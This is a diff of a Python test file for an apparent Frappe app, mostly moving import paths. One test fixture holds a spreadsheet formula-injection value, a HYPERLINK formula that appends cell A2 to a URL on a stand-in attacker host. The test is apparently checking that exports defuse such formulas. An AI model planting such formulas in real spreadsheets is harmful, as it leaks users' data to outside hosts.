@@ -24,9 +24,9 @@ from frappe.tests.utils import FrappeTestCase
 
 from cis_app.core import network_rollup
 from cis_app.core.outcomes import outcome_metrics, suppress_outcomes
-from cis_app.outcome_export import OutcomeExportError
-from cis_app.permissions import clear_scope_cache
-from cis_app.testing import (
+from cis_app.cis_network.outcome_export import OutcomeExportError
+from cis_app.permissions.scope import clear_scope_cache
+from cis_app.tests.factories import (
 	TwoSites,
 	make_affiliate,
 	make_school_year,
@@ -501,7 +501,7 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 
 		import openpyxl
 
-		from cis_app.disclosures import export_query_report
+		from cis_app.cis_case_management.disclosures import export_query_report
 
 		self.import_files((network_rollup.to_json(self.north), "north.json"))
 		formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
@@ -571,7 +571,7 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 		)
 
 	def test_every_refusal_reason_is_translatable(self):
-		from cis_app.outcome_export import problem_messages
+		from cis_app.cis_network.outcome_export import problem_messages
 
 		self.assertEqual(set(problem_messages()), set(network_rollup.MESSAGES))
 		for code, template in network_rollup.MESSAGES.items():
